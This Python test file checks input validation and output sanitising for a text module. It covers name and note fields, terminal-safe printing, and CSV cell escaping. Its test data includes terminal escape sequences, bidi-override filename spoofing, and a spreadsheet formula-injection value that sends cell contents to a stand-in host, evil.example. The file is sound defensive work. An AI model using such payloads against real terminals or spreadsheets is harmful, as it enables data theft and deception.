"""Tests for the free-text rule (sync.text): refused at intake, bounded, and made plain for terminals and sheets."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sync.errors import InputError
from sync.limits import TEXT_LIMITS, text_limit
from sync.text import check_text, json_for_terminal, printable, spreadsheet_cell, text_problem

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def dangerous(ch: str, *, multiline: bool = False) -> bool:
    """What must never reach a terminal: C0/C1 controls and DEL, bidi controls, line separators, surrogates."""
    if multiline and ch == "\n":
        return False
    return unicodedata.category(ch) in ("Cc", "Cs") or ch in BIDI or ch in "\u2028\u2029"


# ---- intake: what is refused, what is not -----------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "阿卜杜·热合曼",
        "买买提·艾力",
        "欧阳娜娜",
        "Zhang San",
        "O'Brien-Lee",
        "李\u3000娜",
        "𠮷野家",
        "\U00031350明",  # CJK extension H: unassigned to Python 3.11's Unicode 14 table, yet a real character
        "\ue000芳",
    ],  # a private-use code, as registries still write some rare characters (生僻字)
)
def test_ordinary_names_are_accepted(name: str) -> None:
    assert text_problem("name", name) is None
    assert check_text("name", name) == name


@given(
    st.lists(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), min_size=1, max_size=20),
    st.lists(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF), min_size=1, max_size=20),
)
def test_cjk_names_with_a_middle_dot_are_accepted(first: list[str], last: list[str]) -> None:
    name = "".join(first) + "·" + "".join(last)
    assert text_problem("name", name) is None


@pytest.mark.parametrize(
    "value",
    [
        "王\x1b[2J",
        "\x1b]0;owned\x07张",
        "abc\u202etxt.exe",
        "a\u2066b",
        "x\x9b2J",
        "tab\there",
        "line\nbreak",
        "bell\x07",
        "del\x7f",
        "nul\x00",
        "sep\u2028",
        "lone\ud800",
    ],
)
def test_controls_and_bidi_are_refused(value: str) -> None:
    assert text_problem("name", value) == "control_character"
    with pytest.raises(InputError) as caught:
        check_text("name", value, label_zh="申请人姓名")
    error = caught.value
    assert error.code == "name.control_character" and error.field == "name"
    assert "申请人姓名" in error.message("zh") and "control" in error.message("en")
    # The refused value is never repeated (it may be a name, and it is what must not be printed).
    assert value not in error.message("zh") and value not in error.message("en")


def test_a_note_may_hold_line_breaks_but_not_escapes() -> None:
    assert text_problem("note", "第一行\n第二行", multiline=True) is None
    assert text_problem("note", "第一行\n第二行") == "control_character"
    assert text_problem("note", "a\x1b[31mred", multiline=True) == "control_character"
    assert text_problem("note", "a\u202eb", multiline=True) == "control_character"


def test_every_field_is_bounded_by_its_limit() -> None:
    for field, limit in TEXT_LIMITS.items():
        assert text_problem(field, "字" * limit) is None
        assert text_problem(field, "字" * (limit + 1)) == "too_long"
    assert text_limit("some_other_field") == text_limit("note")


def test_a_100000_character_note_is_refused_with_the_limit_in_the_message() -> None:
    with pytest.raises(InputError) as caught:
        check_text("note", "备" * 100_000, multiline=True, label_zh="备注")
    assert caught.value.code == "note.too_long"
    assert str(text_limit("note")) in caught.value.message("zh")
    assert "100000" in caught.value.message("en")


def test_length_is_checked_before_the_characters() -> None:
    # A huge value is refused for its length without a walk over every character.
    assert text_problem("name", "\x1b" * 1_000_000) == "too_long"


# ---- output: printable ------------------------------------------------------------------------


@given(st.text(max_size=200))
def test_printable_never_lets_a_control_or_bidi_character_through(value: str) -> None:
    assert not any(dangerous(ch) for ch in printable(value))
    assert not any(dangerous(ch, multiline=True) for ch in printable(value, multiline=True))


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Cf", "Zl", "Zp")), max_size=100))
def test_printable_leaves_ordinary_text_alone(value: str) -> None:
    assert printable(value) == value
    assert text_problem("note", value) is None or len(value) > text_limit("note")


def test_printable_drops_escapes_and_turns_line_breaks_into_spaces() -> None:
    assert printable("王\x1b[2J小明") == "王[2J小明"
    assert printable("\x1b]0;title\x07张") == "]0;title张"
    assert printable("abc\u202etxt.exe") == "abctxt.exe"
    assert printable("第一行\n第二行\t完") == "第一行 第二行 完"
    assert printable("第一行\r\n第二行", multiline=True) == "第一行\n第二行"
    assert printable(None) == ""
    assert printable(12) == "12"


# ---- output: JSON and CSV ---------------------------------------------------------------------


@given(st.dictionaries(st.text(max_size=10), st.text(max_size=40), max_size=5))
def test_json_for_terminal_keeps_the_value_and_shows_no_control(value: dict[str, str]) -> None:
    text = json_for_terminal(json.dumps(value, ensure_ascii=False, indent=2))
    assert json.loads(text) == value
    assert not any(dangerous(ch, multiline=True) for ch in text)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\r=1", "' =1"),
        ("\x1b=1", "'=1"),
        ("  =1", "'  =1"),
        ("0.4.0", "0.4.0"),
        ("正常", "正常"),
        ("", ""),
    ],
)
def test_spreadsheet_cells_that_would_run_as_formulas_get_an_apostrophe(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_spreadsheet_cell_leaves_numbers_and_nothing_alone() -> None:
    assert spreadsheet_cell(-1500) == -1500
    assert spreadsheet_cell(3) == 3
    assert spreadsheet_cell(None) is None


@given(st.text(max_size=60))
def test_no_spreadsheet_cell_starts_a_formula(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert isinstance(cell, str)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not any(dangerous(ch) for ch in cell)
